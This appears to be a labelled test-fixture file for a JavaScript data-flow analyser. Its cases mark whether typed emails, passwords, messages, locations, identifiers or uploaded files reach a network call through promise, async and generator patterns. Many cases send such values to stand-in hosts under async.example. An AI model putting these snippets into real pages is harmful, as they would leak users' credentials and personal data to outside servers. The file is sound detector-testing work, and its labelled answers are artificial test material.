//# then-chain
// flow: email > then.async.example via fetch
Promise.resolve(document.querySelector('input[type=email]').value)
  .then((e) => e.trim().toLowerCase())
  .then((e) => fetch('https://then.async.example/s', { method: 'POST', body: e }));

//# then-value-dropped
// no flow
// why: the first handler returns nothing
Promise.resolve(document.querySelector('input[type=email]').value)
  .then((e) => { console.log(e); })
  .then((v) => fetch('https://drop.async.example/s', { method: 'POST', body: String(v) }));

//# await-helper
// flow: password > await.async.example via fetch
const read = async () => document.querySelector('input[type=password]').value;
document.querySelector('form').onsubmit = async (ev) => {
  ev.preventDefault();
  const p = await read();
  await fetch('https://await.async.example/in', { method: 'POST', body: JSON.stringify({ p }) });
};

//# promise-all-destructured
// flow: device > all.async.example via beacon
// why: near miss: the username is the other element of the result
Promise.all([
  Promise.resolve(document.querySelector('input[name=username]').value),
  navigator.userAgentData.getHighEntropyValues(['model']),
]).then(([user, hints]) => {
  console.log(user);
  navigator.sendBeacon('https://all.async.example/b', hints.model);
});

//# promise-race
// flow: identifier > race.async.example via fetch
const id = () => new Promise((ok) => ok(localStorage.getItem('uid')));
const late = () => new Promise((ok) => setTimeout(ok, 500, 'none'));
Promise.race([id(), late()]).then((v) => fetch('https://race.async.example/r?u=' + v));

//# custom-promisify
// flow: location > prom.async.example via fetch
function locate() {
  return new Promise(function (resolve, reject) { navigator.geolocation.getCurrentPosition(resolve, reject); });
}
locate().then(function (pos) {
  return fetch('https://prom.async.example/l', { method: 'POST', body: pos.coords.latitude + ',' + pos.coords.longitude });
});

//# babel-generator
// flow: username > gen.async.example via fetch
function _asyncToGenerator(fn) {
  return function () {
    var gen = fn.apply(this, arguments);
    return new Promise(function (resolve) {
      (function step(arg) {
        var r = gen.next(arg);
        if (r.done) resolve(r.value); else Promise.resolve(r.value).then(step);
      })();
    });
  };
}
var go = _asyncToGenerator(function* (name) {
  var n = yield Promise.resolve(name);
  yield fetch('https://gen.async.example/g', { method: 'POST', body: n });
});
go(document.querySelector('input[name=username]').value);

//# ts-awaiter-shown
// no flow
// why: the awaited name is shown, what is fetched has none of it
var show = async function (name) {
  const r = await fetch('https://show.async.example/greeting');
  document.querySelector('#hi').textContent = (await r.text()) + name;
};
show(document.querySelector('input[name=username]').value);

//# catch-path
// flow: message > err.async.example via fetch
async function save(text) { throw new Error('cannot save: ' + text); }
save(document.querySelector('textarea[name=message]').value)
  .catch((e) => fetch('https://err.async.example/e', { method: 'POST', body: e.message }));

//# catch-other-error
// no flow
// why: the error is that of the parser and does not quote the typed text; only its class goes out
try {
  JSON.parse(document.querySelector('textarea[name=message]').value);
} catch (e) {
  navigator.sendBeacon('https://cls.async.example/e', e.constructor.name);
}

//# rejected-skips-then
// no flow
// why: the promise is rejected, the handler of then() never runs; catch gets the constant
Promise.reject(new Error('off'))
  .then(() => fetch('https://skip.async.example/s?p=' + document.querySelector('input[type=password]').value))
  .catch((e) => console.warn(e.message));

//# finally-no-argument
// no flow
// why: the callback of finally() gets no value
Promise.resolve(document.querySelector('input[type=email]').value)
  .finally((v) => fetch('https://fin.async.example/f', { method: 'POST', body: String(v) }));

//# for-await
// flow: file > stream.async.example via websocket
const ws = new WebSocket('wss://stream.async.example/up');
document.querySelector('input[type=file]').onchange = async (e) => {
  async function* parts(file) { for (let i = 0; i < file.size; i += 4096) yield await file.slice(i, i + 4096).arrayBuffer(); }
  for await (const part of parts(e.target.files[0])) ws.send(part);
};

//# generator-never-advanced
// no flow
// why: the body of a generator runs only on next()
(() => {
  function* leak() {
    yield fetch('https://idle.async.example/i', { method: 'POST', body: document.querySelector('input[type=password]').value });
  }
  leak();
})();

//# async-iife-error-swallowed
// flow: search > after.async.example via fetch
(async () => {
  const q = document.querySelector('input[type=search]').value;
  try { await fetch('https://before.async.example/warm'); } catch { /* offline */ }
  await fetch('https://after.async.example/q', { method: 'POST', body: q });
})();

//# all-settled-status
// no flow
// why: only how many were fulfilled is counted
Promise.allSettled([Promise.resolve(document.querySelector('input[type=email]').value)]).then((rs) => {
  navigator.sendBeacon('https://settled.async.example/n', String(rs.filter((r) => r.status === 'fulfilled').length));
});

//# never-resolves
// no flow
// why: nothing ever settles the promise
new Promise(() => { document.querySelector('input[type=email]').focus(); })
  .then(() => fetch('https://never.async.example/n', { method: 'POST', body: document.querySelector('input[type=email]').value }));

//# resolved-twice
// no flow
// why: the first resolve() counts, the second is without effect
new Promise((ok) => { ok('first'); ok(document.querySelector('input[name=username]').value); })
  .then((v) => fetch('https://twice.async.example/v?x=' + v));

//# all-other-element
// no flow
// why: the second result is the answer of the server
Promise.all([document.querySelector('input[type=tel]').value, fetch('https://all2.async.example/a').then((r) => r.status)])
  .then(([, status]) => navigator.sendBeacon('https://all3.async.example/s', String(status)));
